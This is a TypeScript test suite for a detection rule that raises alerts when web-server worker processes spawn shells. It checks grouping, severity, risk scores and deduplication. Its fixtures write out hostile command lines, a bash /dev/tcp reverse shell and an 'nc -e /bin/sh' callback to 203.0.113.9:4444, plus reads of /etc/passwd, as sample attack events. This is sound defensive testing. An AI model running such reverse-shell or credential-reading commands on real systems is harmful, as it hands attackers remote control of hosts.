import { NO_EVIDENCE } from '../../../test/doubles/no_evidence';
import { expect, it } from 'vitest';
import { ALERT_FIELD } from '../../../common/alert/alert_document';
import type { SourceEvent } from '../../../common/event/source_event';
import { extendedRule } from '../../../common/rule/extended_rule';
import { toShippedParams, type RuleParams } from '../../../common/rule/rule_params';
import { createEqlEventReader } from '../../../test/doubles/eql_event_reader';
import { createMemoryAdapters } from '../../../test/doubles/memory_adapters';
import { createRuleRun } from '../../../test/doubles/rule_run';
import { createExecutor } from '../executor';
import type { RuleState } from '../rule_state';

const NOON = Date.UTC(2026, 10, 24, 12);
const FPM = {
  entity_id: 'worker',
  executable: '/usr/sbin/php-fpm8.2',
  name: 'php-fpm8.2',
  args: ['php-fpm: pool www'],
};

interface Start {
  readonly id: string;
  readonly second: number;
  readonly args: readonly string[];
  readonly entityId?: string;
  readonly parent?: object;
  readonly ancestry?: readonly string[];
}
const toEvent = ({
  id,
  second,
  args,
  entityId = id,
  parent = FPM,
  ancestry = ['worker'],
}: Start): SourceEvent => ({
  id,
  index: 'logs-endpoint.events.process-default',
  source: {
    '@timestamp': new Date(NOON + second * 1000).toISOString(),
    event: { category: ['process'], type: ['start'], action: 'exec', sequence: second },
    host: { id: 'h', name: 'web-01', os: { type: 'linux' } },
    user: { name: 'www-data' },
    process: {
      entity_id: entityId,
      name: args[0],
      executable: `/usr/bin/${args[0]}`,
      args,
      parent,
      Ext: { ancestry },
    },
  },
});
const below = (entityId: string, name: string): object => ({
  entity_id: entityId,
  name,
  executable: `/usr/bin/${name}`,
  args: [name],
});
const attack = (id: string, second: number): SourceEvent =>
  toEvent({ id, second, args: ['sh', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'] });
const work = (id: string, second: number): SourceEvent =>
  toEvent({
    id,
    second,
    args: ['convert', '/var/www/a.png', '-resize', '100x100', '/var/www/b.png'],
  });

/** A host with the extended rule; events can be added between runs. */
const createHost = (
  events: SourceEvent[],
  {
    mostAlerts = 1000,
    storesAfterRun = false,
    ...params
  }: Partial<RuleParams> & { mostAlerts?: number; storesAfterRun?: boolean } = {}
) => {
  const memory = createMemoryAdapters([], mostAlerts, storesAfterRun);
  const { reader, asked } = createEqlEventReader(events);
  const execute = createExecutor(
    { ...memory.adapters, createEventReader: () => reader },
    NO_EVIDENCE,
    'en',
    () => new Date(0)
  );
  let state: RuleState = {};
  return {
    folded: memory.folded,
    asked,
    /** What alerting keeps of the last run's alerts is lost. */
    forget: () => {
      state = { ...state, unconfirmed: [] };
    },
    async runAt(second: number) {
      const { run, outcome } = createRuleRun({
        startedAt: new Date(NOON + second * 1000).toISOString(),
        updatedAt: new Date(NOON - 3_600_000),
        state,
        params: { ...toShippedParams(extendedRule), ...params },
      });
      ({ state } = await execute(run));
      const told = [...memory.reported];
      const raised = [...told, ...memory.grown.splice(0)];
      memory.storeReported();
      return {
        reports: raised,
        /** What alerting was handed: a document each, and news for actions. */
        told,
        raised: raised.map(({ payload }) => payload),
        outcome: outcome.join(' '),
      };
    },
  };
};

it('raises one alert for an attack, with its grade, its reasons and all its events, and none for work', async () => {
  const shell = attack('sh', 0);
  const bash = toEvent({
    id: 'b',
    second: 1,
    args: ['bash', '-i'],
    parent: below('sh', 'sh'),
    ancestry: ['sh', 'worker'],
  });
  const { raised, outcome } = await createHost([shell, bash, work('w', 2)]).runAt(60);
  expect(raised).toHaveLength(1);
  expect(raised[0]).toMatchObject({
    [ALERT_FIELD.ancestorId]: 'sh',
    [ALERT_FIELD.treeEvents]: ['sh', 'b'],
    [ALERT_FIELD.treeSequences]: [0, 1],
    [ALERT_FIELD.severity]: expect.stringMatching(/^(high|critical)$/),
    [ALERT_FIELD.signs]: expect.arrayContaining([
      expect.objectContaining({ id: 'reverse_shell', eventId: 'sh' }),
    ]),
  });
  expect(raised[0]?.[ALERT_FIELD.riskScore]).toBeGreaterThanOrEqual(73);
  expect(raised[0]?.[ALERT_FIELD.reason]).toContain('203.0.113.9');
  expect(outcome).toContain('1 command run through web servers was seen');
});

it('raises a tree once, by whichever of its programs it is found', async () => {
  const again = toEvent({
    id: 'x',
    second: 130,
    entityId: 'sh',
    args: ['python3', '-c', 'import socket'],
  });
  const events = [attack('sh', 100)];
  const host = createHost(events);
  const first = await host.runAt(120);
  events.push(again);
  const second = await host.runAt(180);
  expect(toIds(second)).toEqual(toIds(first));
  expect(second.outcome).toContain('0 new alerts');
  expect((await host.runAt(240)).raised).toEqual([]);
});

it('sees that a quiet tree grew into an attack', async () => {
  const events = [toEvent({ id: 'sh', second: 0, args: ['sh', '/var/www/jobs/run.sh'] })];
  const host = createHost(events);
  expect((await host.runAt(60)).raised).toEqual([]);
  events.push(
    toEvent({
      id: 'nc',
      second: 70,
      args: ['nc', '-e', '/bin/sh', '203.0.113.9', '4444'],
      parent: below('sh', 'sh'),
      ancestry: ['sh', 'worker'],
    })
  );
  const { raised } = await host.runAt(120);
  expect(raised.map((alert) => alert[ALERT_FIELD.ancestorId])).toEqual(['sh']);
});

it('takes what a script of a server’s child starts for part of its tree, though it looks like a server’s child', async () => {
  const script = {
    entity_id: 'py',
    name: 'python3',
    executable: '/usr/bin/python3',
    args: ['python3', '/var/www/app/manage.py', 'runserver'],
  };
  const events = [
    attack('sh', 0),
    toEvent({
      id: 'py',
      second: 1,
      args: ['python3', '/var/www/app/manage.py', 'runserver'],
      parent: below('sh', 'sh'),
      ancestry: ['sh', 'worker'],
    }),
    toEvent({
      id: 'id',
      second: 2,
      args: ['sh', '-c', 'id; uname -a; cat /etc/passwd'],
      parent: script,
      ancestry: ['py', 'sh', 'worker'],
    }),
  ];
  const { raised } = await createHost(events).runAt(60);
  expect(raised.map((alert) => alert[ALERT_FIELD.treeEvents])).toEqual([['sh', 'py', 'id']]);
});

it('raises the gravest first where alerting takes no more, and the rest in the next run', async () => {
  const probe = toEvent({ id: 'probe', second: 0, args: ['sh', '-c', 'cat /etc/passwd'] });
  const host = createHost([probe, attack('a', 2), attack('b', 3)], { mostAlerts: 2 });
  const first = await host.runAt(60);
  expect(first.raised.map((alert) => alert[ALERT_FIELD.ancestorId]).sort()).toEqual(['a', 'b']);
  expect(first.outcome).toContain('1 more alert is carried over');
  // Long after its look-back: only what is carried over still knows of it.
  const second = await host.runAt(3600);
  expect(second.raised.map((alert) => alert[ALERT_FIELD.ancestorId])).toEqual(['probe']);
});

it('raises the newest first of what is equally grave', async () => {
  const host = createHost([attack('old', 0), attack('new', 9)], { mostAlerts: 1 });
  const first = await host.runAt(60);
  expect(first.raised.map((alert) => alert[ALERT_FIELD.ancestorId])).toEqual(['new']);
});

it('asks what stands above only where a name alone does not tell a server', async () => {
  const asksAbove = async (parent: object): Promise<boolean> => {
    const host = createHost([toEvent({ id: 'a', second: 0, args: ['sh', '-c', 'id'], parent })]);
    await host.runAt(60);
    return host.asked.some(({ query }) => /and process\.entity_id in \(/.test(query));
  };
  const script = { ...FPM, executable: '/usr/bin/python3', name: 'python3' };
  expect(await asksAbove(FPM)).toBe(false);
  const args = ['python3', '/var/www/app/manage.py', 'runserver'];
  expect(await asksAbove({ ...script, args })).toBe(true);
});

it('tells alerting of a rise that grew as of a rise', async () => {
  const events = [toEvent({ id: 'sh', second: 0, args: ['sh', '-c', 'whoami'] })];
  const host = createHost(events, { minimumRisk: 1 });
  await host.runAt(60);
  events.push(grown('nc', 70, ['nc', '-e', '/bin/sh', '203.0.113.9', '4444']));
  await host.runAt(130);
  events.push(grown('ls', 140, ['ls']));
  expect((await host.runAt(200)).reports).toMatchObject([{ isRisen: true }]);
});

it('goes by the rule’s own least risk', async () => {
  const events = [toEvent({ id: 'a', second: 0, args: ['sh', '-c', 'cat /etc/passwd'] })];
  expect((await createHost(events).runAt(60)).raised).toHaveLength(1);
  expect((await createHost(events, { minimumRisk: 99 }).runAt(60)).raised).toEqual([]);
});

it('raises from its least risk on, which is 47 where a rule names none', async () => {
  const events = [toEvent({ id: 'a', second: 0, args: ['sh', '-c', 'w'] })];
  const raise = async (params: Partial<RuleParams>): Promise<unknown[]> =>
    (await createHost(events, params).runAt(60)).raised.map(
      (alert) => alert[ALERT_FIELD.riskScore]
    );
  expect(await raise({})).toEqual([47]);
  expect(await raise({ minimumRisk: undefined })).toEqual([47]);
  expect(await raise({ minimumRisk: 47 })).toEqual([47]);
  expect(await raise({ minimumRisk: 48 })).toEqual([]);
});

it('raises nothing below 47 where a rule names no least risk', async () => {
  const events = [toEvent({ id: 'a', second: 0, args: ['sh', '-c', 'cat /etc/os-release'] })];
  expect((await createHost(events, { minimumRisk: undefined }).runAt(60)).raised).toEqual([]);
  expect((await createHost(events, { minimumRisk: 46 }).runAt(60)).raised).toHaveLength(1);
});

it('lets several questions by hand through one server raise each other, across its workers', async () => {
  const ask = (id: string, second: number, command: string, worker: string) =>
    toEvent({
      id,
      second,
      args: ['sh', '-c', command],
      parent: { ...FPM, entity_id: worker },
      ancestry: [worker],
    });
  const alone = await createHost([ask('a', 0, 'whoami', 'w1')], { minimumRisk: 1 }).runAt(60);
  const together = await createHost(
    [
      ask('a', 0, 'whoami', 'w1'),
      ask('b', 9, 'uname -a', 'w2'),
      ask('c', 20, 'ls -la /home', 'w3'),
    ],
    { minimumRisk: 1 }
  ).runAt(60);
  const riskOf = ({ raised }: typeof alone): unknown =>
    raised.find((alert) => alert[ALERT_FIELD.ancestorId] === 'a')?.[ALERT_FIELD.riskScore];
  expect(riskOf(together)).toBeGreaterThan(Number(riskOf(alone)));
});

const grown = (id: string, second: number, args: readonly string[]): SourceEvent =>
  toEvent({ id, second, args, parent: below('sh', 'sh'), ancestry: ['sh', 'worker'] });
const toIds = ({ reports }: { reports: readonly { instanceId: string }[] }): string[] =>
  reports.map(({ instanceId }) => instanceId.replace(/^.*-default:/, ''));

it('reports a tree again that grew, as the same alert with all its events, and only then', async () => {
  const events = [attack('sh', 0)];
  const host = createHost(events);
  const [id] = toIds(await host.runAt(60));
  expect(toIds(await host.runAt(120))).toEqual([]);
  events.push(grown('ls', 125, ['ls']));
  const again = await host.runAt(190);
  expect(toIds(again)).toEqual([id]);
  expect(again.raised[0]).toMatchObject({ [ALERT_FIELD.treeEvents]: ['sh', 'ls'] });
  expect(again.outcome).toContain('0 new alerts');
});

it('raises a further alert of a tree whose severity rises', async () => {
  const events = [toEvent({ id: 'sh', second: 0, args: ['sh', '-c', 'whoami'] })];
  const host = createHost(events, { minimumRisk: 1 });
  const [before] = toIds(await host.runAt(60));
  events.push(grown('nc', 70, ['nc', '-e', '/bin/sh', '203.0.113.9', '4444']));
  const after = await host.runAt(130);
  expect(toIds(after)).toEqual(['sh:critical']);
  expect(before).toBe('sh:medium');
  expect(after.outcome).toContain('1 new alert');
});

it('hands alerting each severity of a tree once, and says which is a rise: actions fire once', async () => {
  const events = [toEvent({ id: 'sh', second: 0, args: ['sh', '-c', 'whoami'] })];
  const host = createHost(events, { minimumRisk: 1, storesAfterRun: true });
  const tellAt = async (second: number) =>
    (await host.runAt(second)).told.map((alert) => [...toIds({ reports: [alert] }), alert.isRisen]);
  expect(await tellAt(60)).toEqual([['sh:medium', false]]);
  expect(await tellAt(130)).toEqual([]);
  events.push(grown('nc', 70, ['nc', '-e', '/bin/sh', '203.0.113.9', '4444']));
  expect(await tellAt(200)).toEqual([['sh:critical', true]]);
  expect(await tellAt(270)).toEqual([]);
});

it('writes over an alert what its tree grew by, whatever alerting remembers of it', async () => {
  const events = [attack('sh', 0)];
  const host = createHost(events, { storesAfterRun: true });
  const [id] = toIds(await host.runAt(10));
  expect(toIds(await host.runAt(80))).toEqual([]);
  host.forget();
  events.push(grown('ls', 85, ['ls']));
  const after = await host.runAt(150);
  expect(after.told).toEqual([]);
  expect(toIds(after)).toEqual([id]);
  expect(after.raised[0]).toMatchObject({ [ALERT_FIELD.treeEvents]: ['sh', 'ls'] });
});

it('never makes an alert less grave, whatever is out of sight by then', async () => {
  const ask = (id: string, second: number, command: string, worker: string): SourceEvent =>
    toEvent({
      ...{ id, second, args: ['sh', '-c', command], ancestry: [worker] },
      parent: { ...FPM, entity_id: worker },
    });
  const events = [
    ask('a', 0, 'whoami', 'w1'),
    ask('b', -500, 'uname -a', 'w2'),
    ask('c', -490, 'ls -la /home', 'w3'),
  ];
  const host = createHost(events, { minimumRisk: 1, storesAfterRun: true });
  const riskOf = ({ raised }: { raised: readonly Record<string, unknown>[] }): unknown =>
    raised.find((alert) => alert[ALERT_FIELD.ancestorId] === 'a')?.[ALERT_FIELD.riskScore];
  const together = riskOf(await host.runAt(10));
  // It grew, or it would not be written again.
  events.push(
    toEvent({
      ...{ id: 'd', second: 100, args: ['whoami'], ancestry: ['a', 'w1'] },
      parent: below('a', 'sh'),
    })
  );
  expect(riskOf(await host.runAt(300))).toBe(together);
});

it('folds the rows of what the last run handed over, once that is stored', async () => {
  const host = createHost([attack('sh', 0)], { storesAfterRun: true });
  const { reports } = await host.runAt(10);
  expect(host.folded).toEqual([]);
  await host.runAt(300);
  expect(host.folded).toEqual(reports.map(({ instanceId }) => instanceId));
});

it('lowers what the host has shown for days, and goes on raising what is no habit', async () => {
  const events: SourceEvent[] = [];
  const host = createHost(events);
  const DAY = 86_400;
  const raised: number[] = [];
  for (let day = 0; day < 5; day++) {
    for (let time = 0; time < 4; time++) {
      const id = `${day}-${time}`;
      events.push(toEvent({ id, second: day * DAY + time, args: ['whoami'] }));
    }
    raised.push((await host.runAt(day * DAY + 60)).raised.length);
  }
  expect(raised).toEqual([4, 4, 4, 0, 0]);
  events.push(attack('shell', 5 * DAY));
  expect((await host.runAt(5 * DAY + 60)).raised).toHaveLength(1);
});

it.each([true, false])(
  'gets to an attack behind more work than one run looks at (stored after the run: %s)',
  async (storesAfterRun) => {
    // Once the next run begins anew with all of them, since work may have grown.
    const crowd = Array.from({ length: 4100 }, (_, at) => work(`w${at}`, at / 100));
    const host = createHost([...crowd, attack('last', 50)], { storesAfterRun });
    const raised: number[] = [];
    for (const second of [60, 61, 62, 63]) raised.push((await host.runAt(second)).raised.length);
    expect(raised).toEqual([0, 0, 1, 0]);
  }
);
